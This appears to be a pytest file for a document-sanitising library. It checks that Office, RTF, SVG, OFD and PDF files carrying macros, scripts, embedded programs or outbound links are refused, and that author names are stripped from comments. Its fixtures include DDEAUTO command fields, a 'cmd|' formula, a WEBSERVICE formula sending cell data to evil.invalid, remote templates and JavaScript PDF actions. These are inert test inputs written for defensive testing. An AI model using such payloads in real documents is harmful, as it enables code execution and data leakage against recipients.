"""Kind by kind: what runs, fetches or carries something along is refused with a sentence of its own."""

import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from docx import Document
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from tests.documents.conftest import picture
from tests.documents.samples import office, ole, pdf, relations
from tests.documents.telling_office import MARK, ofd
from tests.documents.test_telling_places import bare, tells

from huiyin.documents.errors import (
    FileHasMacros,
    FileHasPrograms,
    FileHasScripts,
    FileLocked,
    FileReachesOut,
    FileRefused,
    FileRuns,
    FileTypeRefused,
)
from huiyin.documents.rules.media_types import TXT
from huiyin.documents.rules.sniffing import sniff

Case = tuple[str, str, bytes, type[FileRefused]]


def _zip(**parts: str) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return buffer.getvalue()


def _sheet(formula: str) -> bytes:
    return office("xl/workbook.xml", {"xl/worksheets/sheet1.xml": f"<x><c><f>{formula}</f></c></x>"})


def _typed(kind: str, main: str = "word/document.xml") -> bytes:
    return office(main, types=f"<Override PartName='/{main}' ContentType='application/vnd.ms-{kind}.main+xml'/>")


_MACROS = office(parts={"word/vbaProject.bin": "x"})
_SHEET4 = office(
    "xl/workbook.xml", {"xl/_rels/workbook.xml.rels": relations("xlMacrosheet", "a.xml", mode="Internal")}
)
_FLAT = '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument w:macrosPresent="yes"/>'
_MHT = "From: <Saved>\r\nSubject: a\r\n b\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n--x\r\n"
_NATIVE = "\x01OLE10NATIVE".encode("utf-16-le")

CASES: list[Case] = [
    ("RTF", "a.rtf", rb"{\rtf1{\info{\author X}}}", FileRuns),
    ("RTF by another name", "a.txt", rb"{\rtf1\ansi{\object\objdata 0105}}", FileRuns),
    ("RTF as Word", "a.doc", b"\n{\\rt{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd}}}", FileRuns),
    ("RTF in UTF-16", "a.txt", r"{\rtf1{\*\template http://evil.invalid/a.dotm}}".encode("utf-16"), FileRuns),
    ("query of Excel", "a.txt", b"WEB\r\n1\r\nhttp://evil.invalid/a\r\n", FileRuns),
    ("query by its name", "a.iqy", b"hello", FileRuns),
    ("SYLK", "a.txt", b'ID;P\nC;X1;Y1;EEXEC("calc")\nE\n', FileHasMacros),
    ("saved web page", "a.txt", _MHT.encode(), FileRuns),
    ("saved web page by its name", "a.mht", b"hello", FileRuns),
    ("link", "a.txt", b"[InternetShortcut]\r\nURL=file://evil.invalid/a\r\n", FileRuns),
    ("link of the desktop", "a.txt", b"[Shell]\r\nCommand=2\r\nIconFile=\\\\evil\\a.ico\r\n", FileRuns),
    ("registry", "a.txt", "Windows Registry Editor Version 5.00\r\n".encode("utf-16"), FileRuns),
    ("link of Windows", "a.lnk", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F", FileRuns),
    ("help file", "a.txt", b"ITSF\x03\0\0\0", FileTypeRefused),
    ("page", "a.txt", b"<html><script>alert(1)</script>", FileRuns),
    ("program as page", "a.hta", b"<hta:application/>", FileRuns),
    ("drawing with a script", "a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", FileRuns),
    ("drawing by another name", "a.txt", b"<svg><script/></svg>", FileRuns),
    ("Word of 2003 in XML", "a.doc", _FLAT.encode(), FileRuns),
    ("flat OpenDocument", "a.fodt", b'<?xml version="1.0"?><office:document/>', FileRuns),
    ("OpenDocument", "a.odt", _zip(mimetype="application/vnd.oasis.opendocument.text"), FileTypeRefused),
    ("archive of Java", "a.jar", _zip(**{"META-INF__MANIFEST.MF": "x"}), FileTypeRefused),
    ("template with macros as docx", "a.docx", _typed("word.template.macroEnabledTemplate"), FileHasMacros),
    ("add-in as xlsx", "a.xlsx", _typed("excel.addin.macroEnabled", "xl/workbook.xml"), FileHasMacros),
    ("binary workbook as xlsx", "a.xlsx", office("xl/workbook.bin"), FileTypeRefused),
    ("sheet of Excel 4.0", "a.xlsx", _SHEET4, FileHasMacros),
    ("locked", "a.docx", ole({"EncryptedPackage": b"", "EncryptionInfo": b""}), FileLocked),
    ("formula that asks a program", "a.xlsx", _sheet("cmd|'/c calc'!A0"), FileReachesOut),
    ("formula that asks a machine", "a.xlsx", _sheet('WEBSERVICE("http://evil.invalid/"&amp;A1)'), FileReachesOut),
    ("fields in a part of another place", "a.docx", office(
        parts={"other/main.xml": "<w><w:instrText xmlns:w='w'>DDEAUTO c:\\cmd</w:instrText></w>"}), FileReachesOut),
    ("fields in a part of another ending", "a.docx", office(
        parts={"word/main.dat": "<w><w:instrText xmlns:w='w'>DDEAUTO c:\\cmd</w:instrText></w>"}), FileReachesOut),
    ("document with macros inside", "a.docx", office(parts={"word/embeddings/a.docm": _MACROS}), FileHasMacros),
    ("old document with macros inside", "a.docx", office(
        parts={"word/embeddings/a.bin": ole({"WordDocument": b"", "_VBA_PROJECT": b""})}), FileHasMacros),
    ("packed file in capitals", "a.docx", office(parts={"word/embeddings/a.bin": _NATIVE}), FileHasMacros),
    ("program inside", "a.docx", office(parts={"word/embeddings/a.bin": b"MZ\x90\0"}), FileHasPrograms),
    ("script inside", "a.pptx", office("ppt/presentation.xml", {"ppt/embeddings/a.vbs": b"x"}), FileHasPrograms),
    ("archive inside", "a.docx", office(parts={"word/embeddings/a.zip": _zip(a="b")}), FileHasPrograms),
    ("ofd with a program", "a.ofd", ofd({"Doc_0/Attachs/a.xml": b"MZ\x90\0"}), FileHasPrograms),
    ("ofd with a script", "a.ofd", ofd({"Doc_0/Attachs/a.js": b"x"}), FileHasPrograms),
    ("ofd with a document", "a.ofd", ofd({"Doc_0/Attachs/a.docx": _MACROS}), FileHasPrograms),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "content", "refusal"), [case[1:] for case in CASES], ids=[case[0] for case in CASES]
)
def test_it_is_refused_by_name(name: str, content: bytes, refusal: type[FileRefused]) -> None:
    with pytest.raises(refusal) as refused:
        sniff(BytesIO(content), name)
    assert type(refused.value) is refusal


@pytest.mark.parametrize(
    "change",
    [
        "page.obj.AA = Dictionary(O=Dictionary(S=Name.GoToR, F=String(chr(92) * 2 + 'evil'), D=Array([0])))",
        "pdf.Root.OpenAction = Dictionary(S=Name.GoToR, F=Dictionary(F=String('http://evil.invalid/')))",
        "pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String('file://evil.invalid/a'))",
        "pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String('JavaScript:alert(1)'))",
        "s = pdf.make_stream(b'x'); s.F = String('//evil/a'); page.obj.Pic = s",
    ],
)
def test_a_pdf_that_reaches_out_is_refused(tmp_path: Path, change: str) -> None:
    with pytest.raises(FileHasScripts):
        bare(pdf(change), "a.pdf", tmp_path)


HONEST = {
    "formula.xlsx": _sheet("SUM(A1:A3)+IF(B1=&quot;a|b!&quot;,'别的 表'!C1,0)"),
    "chart.docx": office(parts={"word/embeddings/a.xlsx": office("xl/workbook.xml")}),
    "object.docx": office(parts={"word/embeddings/a.bin": ole({"CONTENTS": b"x"})}),
    "drawing.docx": office(parts={"word/media/a.svg": "<!DOCTYPE svg><svg/>", "word/media/a.png": picture("PNG")}),
    "note.ofd": ofd({"Doc_0/Attachs/figures.xml": "<Figures><Creator>x</Creator></Figures>"}),
    "chapter.pdf": pdf("pdf.Root.OpenAction = Dictionary(S=Name.GoToR, F=String('chapter2.pdf'), D=Array([0]))"),
}


def test_a_text_of_links_and_brackets_is_a_text() -> None:
    words = "日期: 2026-01-02\n[备注]\nWEB 页面打不开\nFrom: a\nSubject: b\n\n{\\r\n"
    for sent in (words, "[DEFAULT] 1\n", "WEB\n网页\n", "Note: a\n" * 90):
        assert sniff(BytesIO(sent.encode()), "a.txt") is TXT


@pytest.mark.parametrize("name", HONEST)
def test_what_only_looks_so_goes_through(tmp_path: Path, name: str) -> None:
    assert bare(HONEST[name], name, tmp_path)


def test_comments_of_real_programs_stay_without_who_wrote_them(tmp_path: Path) -> None:
    """As python-docx and openpyxl write them; both open the copy, and find the words."""
    document, buffer = Document(), BytesIO()
    run = document.add_paragraph("电梯").add_run("停了")
    document.add_comment(run, text="请核实", author=MARK, initials=MARK)
    document.core_properties.author = MARK
    document.save(buffer)
    kept = bare(buffer.getvalue(), "a.docx", tmp_path)
    assert tells(buffer.getvalue()) and not tells(kept)
    opened = Document(BytesIO(kept))
    assert [paragraph.text for paragraph in opened.paragraphs] == ["电梯停了"]
    assert [(comment.text, comment.author) for comment in opened.comments] == [("请核实", "作者")]

    book, buffer = Workbook(), BytesIO()
    assert book.active is not None
    book.active["A1"] = "电梯"
    book.active["A1"].comment = Comment(f"{MARK}:\n请核实", MARK)
    book.save(buffer)
    kept = bare(buffer.getvalue(), "a.xlsx", tmp_path)
    assert tells(buffer.getvalue()) and not tells(kept)
    note = load_workbook(BytesIO(kept)).worksheets[0]["A1"].comment
    assert note is not None and (note.text, note.author) == ("作者:\n请核实", "作者")
